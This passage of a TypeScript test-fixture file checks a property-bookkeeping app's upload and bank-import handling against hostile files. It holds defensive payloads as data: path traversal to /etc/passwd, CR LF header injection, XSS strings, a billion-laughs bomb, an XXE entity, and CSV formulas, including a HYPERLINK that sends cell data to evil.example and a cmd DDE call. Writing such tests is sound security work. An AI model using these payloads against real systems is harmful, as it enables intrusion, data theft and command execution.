        Buffer.from('--x\r\nContent-Disposition: form-data; name="file"; filename="r.pdf"\r\n\r\n'),
        RECEIPT_PDF,
        Buffer.from('\r\n--x--\r\n'),
      ]),
    contentType: 'multipart/form-data; boundary=x',
    expected: NOT_OCTET_STREAM,
  },
  {
    name: 'a PDF with no Content-Type at all',
    bytes: () => RECEIPT_PDF,
    fileName: 'receipt.pdf',
    contentType: null,
    expected: NOT_OCTET_STREAM,
  },
  {
    // RFC 9110, 8.3.1: a media type's name is case-insensitive and may carry parameters.
    name: 'a PDF sent as APPLICATION/OCTET-STREAM; charset=binary',
    bytes: () => RECEIPT_PDF,
    fileName: 'receipt.pdf',
    contentType: 'APPLICATION/OCTET-STREAM; charset=binary',
    expected: { status: 200, type: 'application/pdf', name: 'receipt.pdf' },
  },
  {
    name: 'a file name of 1,001 characters',
    bytes: () => RECEIPT_PDF,
    fileName: `${'x'.repeat(997)}.pdf`,
    expected: { status: 400, code: 'VALIDATION', message: queryMessage({ name: 'x'.repeat(1001) }) },
  },
  {
    name: 'two names',
    bytes: () => RECEIPT_PDF,
    rawQuery: '?name=a.pdf&name=b.pdf',
    expected: { status: 400, code: 'VALIDATION', message: queryMessage({ name: ['a.pdf', 'b.pdf'] }) },
  },
  {
    // Bytes that decode to no text are no path or control character either: at worst the name keeps them as written.
    name: 'a name percent-encoded from bytes that are not UTF-8',
    bytes: () => RECEIPT_PDF,
    rawQuery: '?name=%FF%FE%2F..%2F%ED%A0%80',
    expected: { status: 200, type: 'application/pdf' },
  },
  {
    name: 'a file name of 1,000 characters, kept at 200',
    bytes: () => RECEIPT_PDF,
    fileName: `${'x'.repeat(996)}.pdf`,
    expected: { status: 200, type: 'application/pdf', name: `${'x'.repeat(196)}.pdf` },
  },
  {
    name: 'a PDF named with a path up to /etc/passwd',
    bytes: () => RECEIPT_PDF,
    fileName: '../../../../etc/passwd',
    expected: { status: 200, type: 'application/pdf', name: 'passwd.pdf' },
  },
  {
    name: 'a PNG named with a Windows path',
    bytes: () => Buffer.concat([PNG_SIGNATURE, Buffer.alloc(32, 1)]),
    fileName: '..\\..\\Windows\\System32\\drivers\\etc\\hosts',
    expected: { status: 200, type: 'image/png', name: 'hosts.png' },
  },
  {
    name: 'a PDF whose name hides ".exe" behind a right-to-left override',
    bytes: () => RECEIPT_PDF,
    fileName: 'invoice\u202Efdp.exe',
    expected: { status: 200, type: 'application/pdf', name: 'invoicefdp.exe.pdf' },
  },
  {
    name: 'a JPEG whose name has NUL characters and other controls',
    bytes: () => Buffer.concat([JPEG_HEAD, Buffer.alloc(32, 2)]),
    fileName: 'photo\u0000.jpg\u0000.exe\u0007\u001b[2J',
    expected: { status: 200, type: 'image/jpeg' },
  },
  {
    name: 'a PDF whose name would add a header to the download (CR LF)',
    bytes: () => RECEIPT_PDF,
    fileName: 'a.pdf\r\nSet-Cookie: rentfolio_session=stolen\r\nX-Injected: 1',
    expected: { status: 200, type: 'application/pdf' },
  },
  {
    name: 'a PDF whose name is only separators and dots',
    bytes: () => RECEIPT_PDF,
    fileName: '/../\\..\\./',
    expected: { status: 200, type: 'application/pdf', name: 'receipt.pdf' },
  },
  {
    name: 'a WebP named photo.jpg',
    bytes: () => WEBP,
    fileName: 'photo.jpg',
    expected: { status: 200, type: 'image/webp', name: 'photo.jpg.webp' },
  },
  {
    name: 'a PDF with an HTML page after its header, named page.html',
    bytes: () => Buffer.concat([Buffer.from('%PDF-1.4\n'), RECEIPT_HTML]),
    fileName: 'page.html',
    expected: { status: 200, type: 'application/pdf', name: 'page.html.pdf' },
  },
];

// Bank statements, sent as POST /api/bank-imports's `text` (docs/product.md "Bank statements"; docs/api.md). OFX 1.x is
// SGML: a header of KEY:value lines, then tags whose leaf elements need no end tag, but whose aggregates (STMTTRN,
// BANKTRANLIST, …) always close (OFX 1.6, 2.3.1); `<`, `>` and `&` in text are written &lt; &gt; &amp; (2.3.2.1). OFX 2.x
// is XML with the same elements after an <?OFX …?> processing instruction. A bank's CSV is RFC 4180 read through the
// user's column mapping, with the property CSV reader's limits (40,000 lines, 20,000 transactions, 100,000 characters
// a line). Every file is made here, the same on every run.

export type BankLineError = { line: number; message: string };

export type BankExpectation =
  | { status: 400 | 404 | 413; code: TApiErrorCode; message: string }
  | {
      status: 200;
      total: number;
      imported: number;
      failed?: number;
      errors?: BankLineError[];
      /** The rows booked (GET /api/transactions), compared field by field; amounts in the category's direction. */
      stored?: { payee?: string; memo?: string | null; amount?: number; date?: string }[];
      /** The same file again under a new key books nothing: each line's FITID is booked already. */
      bookedOnce?: boolean;
      /** The CSV's mapping is remembered for its header line (GET /api/bank-mappings). */
      mappingRemembered?: boolean;
      /** The longest the request may take (an entity that expanded would take far longer). */
      withinMs?: number;
    };

export type BankFixture = {
  name: string;
  format: 'ofx' | 'csv';
  text: () => string;
  fileName?: string;
  /** A CSV's mapping (the three-column one below unless said). */
  mapping?: TBankCsvMapping;
  /** The lines chosen, each to the repairs category: [1] for a statement, [2] for a CSV (its first row) unless said. */
  lines?: number[];
  keepDuplicateLines?: number[];
  /** Whose property the lines go to: the caller's own unless 'other' (another user's). */
  property?: 'own' | 'other';
  expected: BankExpectation;
};

const OFX_HEADER =
  'OFXHEADER:100\nDATA:OFXSGML\nVERSION:102\nSECURITY:NONE\nENCODING:USASCII\nCHARSET:1252\nCOMPRESSION:NONE\n' +
  'OLDFILEUID:NONE\nNEWFILEUID:NONE\n\n';

/** An OFX 1.0.2 statement (SGML) of one checking account holding `transactions`. */
const sgmlStatement = (transactions: string, account = '555000111') =>
  `${OFX_HEADER}<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0<SEVERITY>INFO</STATUS><DTSERVER>20251031<LANGUAGE>ENG</SONRS></SIGNONMSGSRSV1>
<BANKMSGSRSV1><STMTTRNRS><TRNUID>1<STATUS><CODE>0<SEVERITY>INFO</STATUS><STMTRS><CURDEF>USD
<BANKACCTFROM><BANKID>121000248<ACCTID>${account}<ACCTTYPE>CHECKING</BANKACCTFROM>
<BANKTRANLIST><DTSTART>20251001<DTEND>20251031
${transactions}</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>
`;

type Trn = { fitId: string; name?: string; amount?: string; date?: string; memo?: string };

/** One transaction (STMTTRN) in SGML: money out, ACE HARDWARE on 5 October 2025 unless said. */
const trn = ({ fitId, name = 'ACE HARDWARE', amount = '-84.17', date = '20251005', memo }: Trn) =>
  `<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>${date}<TRNAMT>${amount}<FITID>${fitId}<NAME>${name}${
    memo === undefined ? '' : `<MEMO>${memo}`
  }</STMTTRN>\n`;

/** `count` transactions, FITIDs from `from`. */
const manyTrn = (count: number, from = 0) =>
  Array.from({ length: count }, (_, i) => trn({ fitId: `N${from + i}`, name: `PAYEE ${from + i}` })).join('');

/** An OFX 2.2 statement (XML): the XML declaration, the OFX processing instruction, `prolog`, then the document. */
const xmlStatement = (transactions: string, prolog = '') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE" OLDFILEUID="NONE" NEWFILEUID="NONE"?>
${prolog}<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS><DTSERVER>20251031</DTSERVER><LANGUAGE>ENG</LANGUAGE></SONRS></SIGNONMSGSRSV1>
<BANKMSGSRSV1><STMTTRNRS><TRNUID>1</TRNUID><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS><STMTRS><CURDEF>USD</CURDEF>
<BANKACCTFROM><BANKID>121000248</BANKID><ACCTID>555000111</ACCTID><ACCTTYPE>CHECKING</ACCTTYPE></BANKACCTFROM>
<BANKTRANLIST><DTSTART>20251001</DTSTART><DTEND>20251031</DTEND>
${transactions}</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>
`;

const xmlTrn = ({ fitId, name = 'ACE HARDWARE', amount = '-84.17', date = '20251005' }: Trn) =>
  `<STMTTRN><TRNTYPE>DEBIT</TRNTYPE><DTPOSTED>${date}</DTPOSTED><TRNAMT>${amount}</TRNAMT><FITID>${fitId}</FITID><NAME>${name}</NAME></STMTTRN>\n`;

/** The "billion laughs": ten levels of internal entities, each ten of the one before; &lol9; is 10^9 "lol"s. */
const BILLION_LAUGHS = `<!DOCTYPE OFX [
<!ENTITY lol "lol">
${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
).join('\n')}
]>
`;

/** An external entity (XXE): a parser that resolves it reads the server's /etc/passwd into the payee. */
const EXTERNAL_ENTITY = '<!DOCTYPE OFX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n';

/** The CSVs below: date, description, amount (money out negative), month-first dates. */
const BANK_CSV_HEAD = 'Date,Description,Amount';
const CSV_3_COLUMNS: TBankCsvMapping = { ...BANK_CSV_MAPPING, memo: null };

/** An OFX statement whose one transaction's NAME makes the file exactly `bytes` bytes long (ASCII). */
const ofxOfBytes = (bytes: number) => {
  const empty = sgmlStatement(trn({ fitId: 'BIG', name: '' }));
  return sgmlStatement(trn({ fitId: 'BIG', name: 'x'.repeat(bytes - empty.length) }));
};

const NOT_OFX = { status: 400, code: 'INVALID_FILE_TYPE', message: BANK_IMPORT_MESSAGES.notOfx } as const;
const UNREADABLE_OFX = {
  status: 400,
  code: 'CSV_PARSE',
  message: BANK_IMPORT_MESSAGES.unreadableOfx,
} as const;
const LINE_UNKNOWN = { status: 400, code: 'VALIDATION', message: BANK_IMPORT_MESSAGES.lineUnknown } as const;
const TOO_MANY = {
  status: 400,
  code: 'IMPORT_ROW_LIMIT',
  message: BANK_IMPORT_MESSAGES.tooManyTransactions,
} as const;
const TOO_LARGE = { status: 413, code: 'PAYLOAD_TOO_LARGE', message: BANK_IMPORT_MESSAGES.tooLarge } as const;
/** The ledger's own message for an amount past its largest (ZLedgerAmount, as for a transaction typed in). */
const AMOUNT_PAST_LIMIT = ZLedgerAmount.safeParse(100_000_000.01).error?.issues[0]?.message ?? 'refused';
const PAYEE_CONTROL = CONTROL('Payee');

export const BANK_FIXTURES: BankFixture[] = [
  // Files that are no statement at all.
  {
    name: 'an HTML page named statement.ofx',
    format: 'ofx',
    fileName: 'statement.ofx',
    text: () => '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
    expected: NOT_OFX,
  },
  {
    name: 'a bank CSV sent as OFX',
    format: 'ofx',
    text: () => `${BANK_CSV_HEAD}\n10/05/2025,ACE HARDWARE,-84.17\n`,
    expected: NOT_OFX,
  },
  { name: 'an empty text sent as OFX', format: 'ofx', text: () => '', expected: NOT_OFX },
  {
    name: 'a PDF named statement.qfx',
    format: 'ofx',
    fileName: 'statement.qfx',
    text: () => RECEIPT_PDF.toString('latin1'),
    expected: NOT_OFX,
  },
  // Statements whose tags do not close.
  {
    name: 'an OFX whose last STMTTRN never closes',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'A1' })).replace('</STMTTRN>', ''),
    expected: UNREADABLE_OFX,
  },
  {
    name: 'an OFX whose first STMTTRN runs into the next one',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'A1' }).replace('</STMTTRN>', '') + trn({ fitId: 'A2' })),
    expected: UNREADABLE_OFX,
  },
  {
    name: 'an OFX 2 file cut off in the middle of a transaction',
    format: 'ofx',
    text: () => {
      const text = xmlStatement(xmlTrn({ fitId: 'A1' }) + xmlTrn({ fitId: 'A2' }));
      return text.slice(0, text.lastIndexOf('<TRNAMT>'));
    },
    expected: UNREADABLE_OFX,
  },
  {
    name: 'an OFX whose transaction list never closes',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'A1' })).replace('</BANKTRANLIST>', ''),
    expected: UNREADABLE_OFX,
  },
  {
    name: 'an OFX with no transactions',
    format: 'ofx',
    text: () => sgmlStatement(''),
    expected: { status: 400, code: 'CSV_PARSE', message: BANK_IMPORT_MESSAGES.noTransactions },
  },
  // Limits.
  {
    name: 'an OFX with 20,001 transactions',
    format: 'ofx',
    text: () => sgmlStatement(manyTrn(BANK_IMPORT_LIMITS.maxTransactions + 1)),
    expected: TOO_MANY,
  },
  {
    name: 'an OFX with 20,000 transactions (the limit), one of them chosen',
    format: 'ofx',
    text: () => sgmlStatement(manyTrn(BANK_IMPORT_LIMITS.maxTransactions)),
    expected: { status: 200, total: 20_000, imported: 1, stored: [{ payee: 'PAYEE 0', amount: 84.17 }] },
  },
  {
    name: 'an OFX of 10 MB and one byte',
    format: 'ofx',
    text: () => ofxOfBytes(BANK_IMPORT_LIMITS.maxBytes + 1),
    expected: TOO_LARGE,
  },
  {
    // The limit is in bytes of UTF-8 (BANK_IMPORT_LIMITS.maxBytes): 6,000,000 characters, 12,000,000 bytes.
    name: 'an OFX of 6 million “é” (under 10 million characters, 12 MB of UTF-8)',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'E1', name: 'é'.repeat(6_000_000) })),
    expected: TOO_LARGE,
  },
  {
    name: 'a body of 23 MB (over the route’s own limit)',
    format: 'ofx',
    text: () => ofxOfBytes(23 * MIB),
    expected: { status: 413, code: 'PAYLOAD_TOO_LARGE', message: IMPORT_MESSAGES.tooLarge },
  },
  {
    name: 'an OFX of exactly 10 MB: read, its payee cut at 200 characters',
    format: 'ofx',
    text: () => ofxOfBytes(BANK_IMPORT_LIMITS.maxBytes),
    expected: { status: 200, total: 1, imported: 1, stored: [{ payee: 'x'.repeat(200) }] },
  },
  // Entities: ofx-js reads &lt; &gt; &amp; and no DTD, so a declared entity is never expanded, nor a file read.
  {
    name: 'an XML bomb: ten levels of entities declared in an OFX 2 file, the payee &lol9;',
    format: 'ofx',
    text: () => xmlStatement(xmlTrn({ fitId: 'L1', name: '&lol9;' }), BILLION_LAUGHS),
    expected: { status: 200, total: 1, imported: 1, stored: [{ payee: '&lol9;' }], withinMs: 10_000 },
  },
  {
    name: 'an external entity naming /etc/passwd in an OFX 2 file, the payee &xxe;',
    format: 'ofx',
    text: () => xmlStatement(xmlTrn({ fitId: 'X1', name: '&xxe;' }), EXTERNAL_ENTITY),
    expected: { status: 200, total: 1, imported: 1, stored: [{ payee: '&xxe;' }], withinMs: 10_000 },
  },
  // Markup and characters in the text.
  {
    name: 'an OFX whose NAME holds <script>, escaped as OFX writes it (&lt;script&gt;): kept as text',
    format: 'ofx',
    text: () =>
      sgmlStatement(trn({ fitId: 'S1', name: '&lt;script&gt;alert(document.cookie)&lt;/script&gt;' })),
    expected: {
      status: 200,
      total: 1,
      imported: 1,
      stored: [{ payee: '<script>alert(document.cookie)</script>' }],
    },
  },
  {
    name: 'an OFX 2 file whose NAME holds <img onerror>, escaped: kept as text',
    format: 'ofx',
    text: () => xmlStatement(xmlTrn({ fitId: 'S2', name: '&lt;img src=x onerror=alert(1)&gt; &amp; Co' })),
    expected: {
      status: 200,
      total: 1,
      imported: 1,
      stored: [{ payee: '<img src=x onerror=alert(1)> & Co' }],
    },
  },
  {
    // A raw tag inside a leaf's text breaks the transaction's tags: that transaction is listed, the others are read.
    name: 'an OFX whose NAME holds a raw <script> tag: that transaction unreadable',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'R1' }) + trn({ fitId: 'R2', name: '<script>alert(1)</script>' })),
    expected: {
      status: 200,
      total: 2,
      imported: 1,
      failed: 1,
      errors: [{ line: 2, message: BANK_IMPORT_MESSAGES.unreadableOfx }],
      stored: [{ payee: 'ACE HARDWARE' }],
    },
  },
  {
    name: 'a payee holding NUL and bell characters: that transaction refused with the ledger’s message',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'C1' }) + trn({ fitId: 'C2', name: 'ACE\u0000HARD\u0007WARE' })),
    expected: {
      status: 200,
      total: 2,
      imported: 1,
      failed: 1,
      errors: [{ line: 2, message: PAYEE_CONTROL }],
    },
  },
  {
    name: 'a payee holding NUL, chosen: refused, nothing stored',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'C3', name: 'ACE\u0000HARDWARE' })),
    expected: LINE_UNKNOWN,
  },
  {
    name: 'a payee that hides “.exe” behind a right-to-left override',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'C4' }) + trn({ fitId: 'C5', name: 'invoice\u202Efdp.exe' })),
    expected: {
      status: 200,
      total: 2,
      imported: 1,
      failed: 1,
      errors: [{ line: 2, message: PAYEE_CONTROL }],
    },
  },
  {
    name: 'a payee holding half of a surrogate pair',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'C6' }) + trn({ fitId: 'C7', name: 'ACE \uD83D HARDWARE' })),
    expected: {
      status: 200,
      total: 2,
      imported: 1,
      failed: 1,
      errors: [{ line: 2, message: BROKEN('Payee') }],
    },
  },
  {
    name: 'a memo holding a NUL',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'C8' }) + trn({ fitId: 'C9', memo: 'October\u0000rent' })),
    expected: {
      status: 200,
      total: 2,
      imported: 1,
      failed: 1,
      errors: [{ line: 2, message: CONTROL('Memo') }],
    },
  },
  {
    name: 'a memo holding a tab: kept (a memo, like a note, keeps tabs and line breaks)',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'T1', memo: 'October\trent' })),
    expected: { status: 200, total: 1, imported: 1, stored: [{ memo: 'October\trent' }] },
  },
  {
    // A FITID is the bank's own id, never shown; a NUL in it (or in the account) is kept, and still books it once.
    name: 'a FITID and an account id holding NUL: booked once',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'F\u00001' }), '555\u0000111'),
    expected: { status: 200, total: 1, imported: 1, bookedOnce: true },
  },
  {
    name: 'a payee of 199 letters and an emoji, cut at 200 without halving the emoji',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'U1', name: `${'a'.repeat(199)}😀b` })),
    expected: { status: 200, total: 1, imported: 1, stored: [{ payee: 'a'.repeat(199) }] },
  },
  {
    name: 'an amount past the ledger’s largest ($100,000,000.01): that transaction refused; $100,000,000 read',
    format: 'ofx',
    text: () =>
      sgmlStatement(
        trn({ fitId: 'M1', amount: '-100000000.01' }) + trn({ fitId: 'M2', amount: '-100000000.00' }),
      ),
    lines: [2],
    expected: {
      status: 200,
      total: 2,
      imported: 1,
      failed: 1,
      errors: [{ line: 1, message: AMOUNT_PAST_LIMIT }],
      stored: [{ amount: 100_000_000 }],
    },
  },
  {
    name: 'amounts no bank writes (1e309, NaN, 0x10, 1,000.00, -0.00)',
    format: 'ofx',
    text: () =>
      sgmlStatement(
        ['1e309', 'NaN', '0x10', '1,000.00', '-0.00', '-5.00']
          .map((amount, i) => trn({ fitId: `Q${i}`, amount }))
          .join(''),
      ),
    lines: [6],
    expected: {
      status: 200,
      total: 6,
      imported: 1,
      failed: 5,
      errors: [
        { line: 1, message: BANK_IMPORT_MESSAGES.amount },
        { line: 2, message: BANK_IMPORT_MESSAGES.amount },
        { line: 3, message: BANK_IMPORT_MESSAGES.amount },
        // A comma is read as a decimal comma only when it is one ("-7,50"): "1,000.00" is no number.
        { line: 4, message: BANK_IMPORT_MESSAGES.amount },
        { line: 5, message: BANK_IMPORT_MESSAGES.amountZero },
      ],
      stored: [{ amount: 5 }],
    },
  },
  {
    name: 'days that do not exist (30 February, month 13, year 1899)',
    format: 'ofx',
    text: () =>
      sgmlStatement(
        ['20250230', '20251301', '18991231', 'yesterday', '20251005']
          .map((date, i) => trn({ fitId: `D${i}`, date }))
          .join(''),
      ),
    lines: [5],
    expected: {
      status: 200,
      total: 5,
      imported: 1,
      failed: 4,
      errors: [1, 2, 3, 4].map((line) => ({ line, message: BANK_IMPORT_MESSAGES.date })),
      stored: [{ date: '2025-10-05' }],
    },
  },
  // Lines chosen that the file does not hold: refused as a whole, nothing stored.
  ...(
    [
      [99, 'a line the file does not hold (99)'],
      [0, 'line 0'],
      [-1, 'a negative line (-1)'],
      [BANK_IMPORT_LIMITS.maxLines + 2, 'line 40,002'],
      [2 ** 31, 'line 2^31'],
      [Number.MAX_SAFE_INTEGER, 'line 2^53 - 1'],
      [1.5, 'line 1.5'],
    ] as const
  ).map(
    ([line, what]): BankFixture => ({
      name: `an assignment naming ${what}`,
      format: 'ofx',
      text: () => sgmlStatement(trn({ fitId: 'K1' }) + trn({ fitId: 'K2' })),
      lines: [line],
      expected: LINE_UNKNOWN,
    }),
  ),
  {
    name: 'two good lines and one the file does not hold: none stored',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'K1' }) + trn({ fitId: 'K2' })),
    lines: [1, 2, 3],
    expected: LINE_UNKNOWN,
  },
  {
    name: 'a likely duplicate kept that is line -1',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'K1' })),
    keepDuplicateLines: [-1],
    expected: LINE_UNKNOWN,
  },
  {
    name: 'the lines put on another user’s property',
    format: 'ofx',
    text: () => sgmlStatement(trn({ fitId: 'K1' })),
    property: 'other',
    expected: { status: 404, code: 'NOT_FOUND', message: PROPERTY_MESSAGES.notFound },
  },
  // CSV files.
  {
    name: 'a CSV with a quote never closed',
    format: 'csv',
    text: () => `${BANK_CSV_HEAD}\n10/01/2025,"JORDAN LEE,2400.00\n10/05/2025,ACE HARDWARE,-84.17\n`,
    expected: { status: 400, code: 'CSV_PARSE', message: formatUnclosedQuoteMessage(2) },
  },
  {
    name: 'a CSV of only a header',
    format: 'csv',
    text: () => `${BANK_CSV_HEAD}\n`,
    expected: { status: 400, code: 'CSV_PARSE', message: IMPORT_MESSAGES.headerAndRow },
  },
  {
    name: 'a CSV of blank lines only',
    format: 'csv',
    text: () => '\n\r\n  \n',
    expected: { status: 400, code: 'CSV_PARSE', message: IMPORT_MESSAGES.noData },
  },
  {
    name: 'a CSV whose date and amount columns hold formulas: those rows unreadable, the others read',
    format: 'csv',
    text: () =>
      [
        BANK_CSV_HEAD,
        '"=HYPERLINK(""http://evil.example/?""&A1,""10/01/2025"")",JORDAN LEE,2400.00',
        '10/03/2025,ACE HARDWARE,=SUM(A1:A9)',
        '@NOW(),ACE HARDWARE,-1.00',
        '10/05/2025,ACE HARDWARE,-84.17',
      ].join('\n'),
    lines: [5],
    expected: {
      status: 200,
      total: 4,
      imported: 1,
      failed: 3,
      errors: [
        { line: 2, message: BANK_IMPORT_MESSAGES.date },
        { line: 3, message: BANK_IMPORT_MESSAGES.amount },
        { line: 4, message: BANK_IMPORT_MESSAGES.date },
      ],
      stored: [{ date: '2025-10-05', payee: 'ACE HARDWARE', amount: 84.17 }],
    },
  },
  {
    name: 'a CSV whose formula dates are chosen: refused, nothing stored',
    format: 'csv',
    text: () => `${BANK_CSV_HEAD}\n"=HYPERLINK(""http://evil.example"",""10/01/2025"")",JORDAN LEE,-1.00\n`,
    lines: [2],
    expected: LINE_UNKNOWN,
  },
  {
    // Text as written; a leading ' (a formula escaped by an export) is dropped, so an exported file reads unchanged.
    name: 'a CSV whose payees are formulas: stored as text',
    format: 'csv',
    text: () =>
      [
        BANK_CSV_HEAD,
        '10/05/2025,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-1.00',
        "10/06/2025,+cmd|' /C calc'!A0,-2.00",
        "10/07/2025,'=1+2,-3.00",
      ].join('\n'),
    lines: [2, 3, 4],
    expected: {
      status: 200,
      total: 3,
      imported: 3,
      stored: [
        { payee: '=HYPERLINK("http://evil.example/?"&A1,"Click")', amount: 1 },
        { payee: "+cmd|' /C calc'!A0", amount: 2 },
        { payee: '=1+2', amount: 3 },
      ],
    },
  },
  {
    name: 'a CSV of 40,001 lines (one row, blank lines, then a row on line 40,001)',
    format: 'csv',
    text: () =>
      `${BANK_CSV_HEAD}\n10/05/2025,A,-1.00\n${'\n'.repeat(BANK_IMPORT_LIMITS.maxLines - 2)}10/06/2025,B,-2.00\n`,
    expected: {
      status: 400,
      code: 'CSV_PARSE',
      message: formatTooManyLinesMessage(BANK_IMPORT_LIMITS.maxLines),
    },
  },
  {
    name: 'a CSV of 40,000 lines and its final line end (the limit)',
    format: 'csv',
    text: () =>
      `${BANK_CSV_HEAD}\n10/05/2025,A,-1.00\n${'\n'.repeat(BANK_IMPORT_LIMITS.maxLines - 3)}10/06/2025,B,-2.00\n`,
    lines: [BANK_IMPORT_LIMITS.maxLines],
    expected: { status: 200, total: 2, imported: 1, stored: [{ payee: 'B', amount: 2 }] },
  },
  {
    name: 'a CSV of 20,001 rows',
    format: 'csv',
    text: () =>
      `${BANK_CSV_HEAD}\n${'10/05/2025,ACE HARDWARE,-84.17\n'.repeat(BANK_IMPORT_LIMITS.maxTransactions + 1)}`,
    expected: TOO_MANY,
  },
  {
    name: 'a CSV line longer than 100,000 characters',
    format: 'csv',
    text: () => `${BANK_CSV_HEAD}\n10/05/2025,${'A'.repeat(IMPORT_LIMITS.maxLineLength)},-1.00\n`,
    expected: {
      status: 400,
      code: 'CSV_PARSE',
      message: formatLineTooLongMessage(2, IMPORT_LIMITS.maxLineLength),
    },
  },
  {
    name: 'a CSV of 10 MB and one byte',
    format: 'csv',
    text: () => {
      const head = `${BANK_CSV_HEAD}\n`;
      const line = '10/05/2025,ACE HARDWARE,-84.17\n';
      const body = line.repeat(Math.ceil((BANK_IMPORT_LIMITS.maxBytes + 1 - head.length) / line.length));
      return (head + body).slice(0, BANK_IMPORT_LIMITS.maxBytes + 1);
    },
    expected: TOO_LARGE,
  },
  {
    name: 'a CSV payee holding a NUL: that row refused with the ledger’s message',
    format: 'csv',
    text: () => `${BANK_CSV_HEAD}\n10/05/2025,ACE\u0000HARDWARE,-84.17\n10/06/2025,ACE HARDWARE,-1.00\n`,
    lines: [3],
    expected: {
      status: 200,
      total: 2,
      imported: 1,
      failed: 1,
      errors: [{ line: 2, message: PAYEE_CONTROL }],
    },
  },
  {
    name: 'a CSV header holding a NUL: read, and its mapping remembered',
    format: 'csv',
    text: () => 'Date,Descr\u0000iption,Amount\n10/05/2025,ACE HARDWARE,-84.17\n',
    expected: { status: 200, total: 1, imported: 1, mappingRemembered: true },
  },
  {
    name: 'a mapping whose date column the file does not have (999)',
    format: 'csv',
    text: () => `${BANK_CSV_HEAD}\n10/05/2025,ACE HARDWARE,-84.17\n`,
    mapping: { ...CSV_3_COLUMNS, date: 999 },
    expected: LINE_UNKNOWN,
  },
  {
    name: 'an OFX statement sent as a CSV',
    format: 'csv',
    text: () => sgmlStatement(trn({ fitId: 'O1' })),
    expected: LINE_UNKNOWN,
  },
  {
    name: 'the CSV’s header line chosen (line 1)',
    format: 'csv',
    text: () => `${BANK_CSV_HEAD}\n10/05/2025,ACE HARDWARE,-84.17\n`,
    lines: [1],
    expected: LINE_UNKNOWN,
  },
];

/** The mapping a CSV fixture is read with. */
export const bankMappingOf = (fixture: BankFixture): TBankCsvMapping => fixture.mapping ?? CSV_3_COLUMNS;
